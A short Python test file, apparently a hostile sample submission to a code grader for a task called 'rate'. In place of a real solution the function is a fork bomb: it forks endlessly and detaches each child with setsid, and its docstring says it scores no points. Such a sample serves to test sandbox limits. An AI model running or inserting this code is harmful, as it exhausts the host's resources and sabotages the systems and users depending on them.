"""Forks for ever in a function, each child in a session of its own. They all end with the submission: no points."""
# %% task="rate"
import os
def rate(f, a, b):
    while True:
        try:
            if os.fork() == 0: os.setsid()
        except OSError: pass
